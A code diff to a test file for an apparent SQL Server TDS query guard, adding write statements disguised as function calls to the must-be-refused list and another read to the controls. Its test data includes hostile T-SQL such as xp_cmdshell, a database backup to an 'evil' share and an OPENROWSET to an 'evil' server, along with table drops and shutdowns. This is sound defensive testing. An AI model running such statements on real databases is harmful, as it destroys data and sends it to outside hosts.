@@ -116,7 +116,7 @@ t.test('eighteenth pass: SQL Server\'s TDS through a bridge is read packet by pa
     "WAITFOR DELAY '0:0:1'; SHUTDOWN WITH NOWAIT", "SELECT 'a\\'; DROP TABLE users --'", 'SELECT 1 /* /* */ */ TRUNCATE TABLE users',
     "EXEC xp_cmdshell 'whoami'", 'SELECT * INTO public_copy FROM users', "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')",
     'SET IDENTITY_INSERT users ON', "BACKUP DATABASE app TO DISK = '\\\\evil\\share\\app.bak'", 'sp_configure', 'WITH c AS (SELECT 1 AS x) UPDATE users SET role = 1',
-    'BEGIN TRAN; DELETE FROM users; COMMIT', '[dbo].[purge_orders]',
+    'BEGIN TRAN; DELETE FROM users; COMMIT', '[dbo].[purge_orders]', 'SELECT TOP 1 dbo.purge_orders()', 'SELECT * FROM [dbo] . [wipe] (1)',
   );
   await fc.assert(
     fc.property(tsqlWrites, fc.constantFrom('batch', 'sp_executesql', 'two packets'), (sql, how) => {
@@ -144,7 +144,7 @@ t.test('eighteenth pass: SQL Server\'s TDS through a bridge is read packet by pa
   t.same(readTds([offPrelogin, tlsHandshake, tlsRecord, tdsBatch('DROP TABLE users')], serverSays(0)).bodies, [{ sql: 'DROP TABLE users' }], 'a login encrypted alone: the batch after it is read');
   t.ok(readTds([offPrelogin, tlsHandshake, tlsRecord, tdsBatch('SELECT 1'), tlsRecord], serverSays(0)).refused, 'TLS after the login: refused');
   // Controls: the connect batch, reads and an sp_executesql read with its value go on as reads.
-  const reads = readTds([...opened(), tdsBatch('SELECT TOP 10 id, name FROM users WHERE name = N\'x\' ORDER BY id'), tdsBatch('SELECT @@VERSION'), tdsRpc(10, [['@statement', 'SELECT id FROM users WHERE name LIKE @p'], ['@params', '@p nvarchar(1)'], ['@p', '%']])]);
+  const reads = readTds([...opened(), tdsBatch('SELECT TOP 10 id, name FROM users WHERE name = N\'x\' ORDER BY id'), tdsBatch('SELECT @@VERSION'), tdsBatch('SELECT COUNT(*), MAX(u.id) FROM dbo.users u WHERE u.name LIKE N\'a.b(%\''), tdsRpc(10, [['@statement', 'SELECT id FROM users WHERE name LIKE @p'], ['@params', '@p nvarchar(1)'], ['@p', '%']])]);
   t.notOk(reads.refused, 'reads are not refused');
   t.ok(reads.bodies.every((b) => typeof b.query === 'string' && b.sql === undefined), `reads are judged as text a grammar may read: ${JSON.stringify(reads.bodies)}`);
 });
